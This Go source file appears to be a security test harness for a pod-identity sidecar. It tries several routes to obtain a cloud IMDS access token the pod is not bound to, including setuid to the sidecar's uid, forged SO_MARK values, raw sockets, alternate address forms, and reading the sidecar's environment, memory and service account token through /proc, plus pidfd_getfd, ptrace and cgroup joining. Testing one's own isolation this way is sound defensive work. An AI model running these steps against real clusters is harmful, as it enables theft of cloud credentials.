package main

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/podidentity/podidentity/internal/contract"
)

// Target is what the attacker wants: a token for ClientID from the IMDS at IMDS.
type Target struct {
	IMDS, ClientID, Resource string
	// SetUID is the uid the setuid route changes to (the sidecar's).
	SetUID int
}

// Result is the JSON line of one run.
type Result struct {
	Route string `json:"route"`
	// Token is true when an IMDS answer carried an access token.
	Token bool `json:"token"`
	// Stopped says where the route ended when it got no token: "syscall" (the kernel refused a step),
	// "redirect" (the request reached the token sidecar, which refused it), "imds" (the node's IMDS answered
	// without a token), "network" (no connection).
	Stopped string `json:"stopped,omitempty"`
	// Status and Body are the HTTP answer, when there was one.
	Status int    `json:"status,omitempty"`
	Body   string `json:"body,omitempty"`
	// Steps records what each step did, for the report.
	Steps []string  `json:"steps"`
	Error string    `json:"error,omitempty"`
	UID   int       `json:"uid"`
	Time  time.Time `json:"time"`
}

func (r *Result) step(format string, args ...any) {
	r.Steps = append(r.Steps, fmt.Sprintf(format, args...))
}

func run(route string, t Target) Result {
	r := Result{Route: route}
	switch route {
	case "direct":
		r.ask(t, nil)
	case "setuid":
		// A root container with the runtime's default CAP_SETUID becomes the sidecar's uid, which the legacy
		// uid exemption let through.
		if err := syscall.Setgid(t.SetUID); err != nil {
			r.fail("syscall", "setgid(%d): %v", t.SetUID, err)
			break
		}
		if err := syscall.Setuid(t.SetUID); err != nil {
			r.fail("syscall", "setuid(%d): %v", t.SetUID, err)
			break
		}
		r.step("setuid(%d): ok", t.SetUID)
		r.ask(t, nil)
	case "somark":
		// Since Linux 5.17 SO_MARK needs only CAP_NET_RAW, a runtime default: a mark-based exemption would be
		// forgeable. Try every mark a rule could plausibly exempt.
		r.ask(t, func(fd int) error {
			for _, m := range []int{0x539, 15078, 1} {
				if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, m); err != nil {
					return fmt.Errorf("setsockopt(SO_MARK=%#x): %w", m, err)
				}
			}
			return nil
		})
	case "packet":
		// A packet socket sends frames below the netns's nftables hooks.
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
		if err != nil {
			r.fail("syscall", "socket(AF_PACKET, SOCK_RAW): %v", err)
			break
		}
		unix.Close(fd)
		r.fail("", "socket(AF_PACKET, SOCK_RAW): ok: the container holds CAP_NET_RAW")
	case "raw-ip":
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP)
		if err != nil {
			r.fail("syscall", "socket(AF_INET, SOCK_RAW): %v", err)
			break
		}
		unix.Close(fd)
		r.fail("", "socket(AF_INET, SOCK_RAW): ok: the container holds CAP_NET_RAW")
	case "ipv4-mapped-ipv6":
		t.IMDS = "[::ffff:" + t.IMDS + "]"
		r.ask(t, nil)
	case "other-port":
		t.IMDS += ":443"
		r.ask(t, nil)
	case "sidecar-process":
		r.sidecarProcess(t)
	default:
		r.fail("", "unknown ROUTE %q: use direct, setuid, somark, packet, raw-ip, ipv4-mapped-ipv6, other-port or sidecar-process", route)
	}
	r.UID = os.Getuid()
	return r
}

func (r *Result) fail(where, format string, args ...any) {
	r.Stopped = where
	r.Error = fmt.Sprintf(format, args...)
	r.step("%s", r.Error)
}

// ask sends the token request for the target, through a socket prepared by prep (nil: a plain one).
func (r *Result) ask(t Target, prep func(fd int) error) {
	q := url.Values{"api-version": {"2018-02-01"}, "resource": {t.Resource}, "client_id": {t.ClientID}}
	u := "http://" + t.IMDS + "/metadata/identity/oauth2/token?" + q.Encode()
	dialer := &net.Dialer{Timeout: 5 * time.Second}
	if prep != nil {
		dialer.Control = func(_, _ string, c syscall.RawConn) error {
			var err error
			if cerr := c.Control(func(fd uintptr) { err = prep(int(fd)) }); cerr != nil {
				return cerr
			}
			return err
		}
	}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: nil, DialContext: dialer.DialContext}}
	req, _ := http.NewRequestWithContext(context.Background(), http.MethodGet, u, nil)
	req.Header.Set("Metadata", "true")
	resp, err := client.Do(req)
	if err != nil {
		var op *net.OpError
		if errors.As(err, &op) && (errors.Is(err, unix.EPERM) || errors.Is(err, unix.EACCES)) && strings.Contains(err.Error(), "setsockopt") {
			r.fail("syscall", "%v", err)
			return
		}
		r.fail("network", "GET %s: %v", u, err)
		return
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	r.Status, r.Body = resp.StatusCode, string(body)
	var answer struct {
		AccessToken string `json:"access_token"`
	}
	_ = json.Unmarshal(body, &answer)
	r.Token = answer.AccessToken != ""
	r.step("GET %s: %d", u, resp.StatusCode)
	switch {
	case r.Token:
	case strings.Contains(string(body), "bound to this pod"):
		r.Stopped = "redirect" // the token sidecar's refusal of an identity the pod is not bound to
	default:
		r.Stopped = "imds"
	}
}

// sidecarProcess is the shareProcessNamespace route: find the token sidecar among the pod's processes and
// try to use it: read its environment and memory, take a socket out of it, attach to it, join its cgroup,
// as root and as its uid.
func (r *Result) sidecarProcess(t Target) {
	pid, err := findSidecar()
	if err != nil {
		r.fail("", "%v (the pod must share its process namespace)", err)
		return
	}
	r.step("sidecar is pid %d", pid)
	attempts := func(who string) bool {
		gotSomething := false
		try := func(what string, f func() error) {
			if err := f(); err != nil {
				r.step("%s: %s: %v", who, what, err)
				return
			}
			r.step("%s: %s: ok", who, what)
			gotSomething = true
		}
		try("read /proc/<sidecar>/environ", func() error { _, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid)); return err })
		// The projected service account token of a federated identity is mounted into the sidecar only; its
		// mount namespace is reachable through /proc/<pid>/root for whoever may ptrace the process.
		try("read the sidecar's service account token through /proc/<sidecar>/root", func() error {
			_, err := os.ReadFile(fmt.Sprintf("/proc/%d/root%s/%s", pid, contract.FederatedTokenDir, contract.FederatedTokenFile))
			return err
		})
		try("open /proc/<sidecar>/mem", func() error {
			f, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
			if err == nil {
				f.Close()
			}
			return err
		})
		// Listing the descriptors (root may, with CAP_DAC_OVERRIDE) gives nothing: a socket cannot be opened
		// through /proc/<pid>/fd, only taken with pidfd_getfd, tried next.
		if fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid)); err == nil {
			r.step("%s: list /proc/<sidecar>/fd: %d entries (listing alone takes nothing)", who, len(fds))
		} else {
			r.step("%s: list /proc/<sidecar>/fd: %v", who, err)
		}
		try("pidfd_getfd a socket of the sidecar", func() error {
			pfd, err := unix.PidfdOpen(pid, 0)
			if err != nil {
				return fmt.Errorf("pidfd_open: %w", err)
			}
			defer unix.Close(pfd)
			var last error
			for fd := 3; fd < 32; fd++ {
				got, err := unix.PidfdGetfd(pfd, fd, 0)
				if err == nil {
					unix.Close(got)
					return nil
				}
				last = err
				if errors.Is(err, unix.EPERM) {
					return err
				}
			}
			return last
		})
		try("ptrace attach", func() error {
			err := unix.PtraceAttach(pid)
			if err == nil {
				_ = unix.PtraceDetach(pid)
			}
			return err
		})
		try("join the sidecar's cgroup", func() error { return joinCgroupOf(pid) })
		return gotSomething
	}
	if attempts(fmt.Sprintf("uid %d", os.Getuid())) {
		r.fail("", "got hold of the sidecar's process")
		return
	}
	if err := syscall.Setuid(t.SetUID); err != nil {
		r.step("setuid(%d): %v", t.SetUID, err)
	} else if attempts(fmt.Sprintf("uid %d", t.SetUID)) {
		r.fail("", "got hold of the sidecar's process as its uid")
		return
	}
	// Signals are allowed (the pod's own containers may stop each other): the sidecar restarts as a new
	// process, in a new cgroup, which it exempts anew; nothing leaks.
	r.Stopped = "syscall"
	r.ask(t, nil)
	if r.Token {
		r.Stopped = ""
	}
}

func findSidecar() (int, error) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return 0, err
	}
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		// The command line is readable for every process; the environment and memory are not.
		cmd, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.Contains(string(cmd), "podidentity-sidecar") {
			return pid, nil
		}
	}
	return 0, errors.New("no podidentity-sidecar process visible")
}

// joinCgroupOf writes this process into the cgroup v2 of pid, as a container would have to, to create
// sockets the cgroup exemption lets through.
func joinCgroupOf(pid int) error {
	f, err := os.Open(fmt.Sprintf("/proc/%d/cgroup", pid))
	if err != nil {
		return err
	}
	defer f.Close()
	s := bufio.NewScanner(f)
	for s.Scan() {
		if path, ok := strings.CutPrefix(s.Text(), "0::"); ok {
			for _, root := range []string{"/sys/fs/cgroup", "/sys/fs/cgroup/unified"} {
				procs := filepath.Join(root, path, "cgroup.procs")
				if _, err := os.Stat(procs); err != nil {
					continue
				}
				return os.WriteFile(procs, []byte(strconv.Itoa(os.Getpid())), 0)
			}
			return fmt.Errorf("cgroup %s of the sidecar is not visible from this container", path)
		}
	}
	return errors.New("the sidecar has no cgroup v2 line")
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
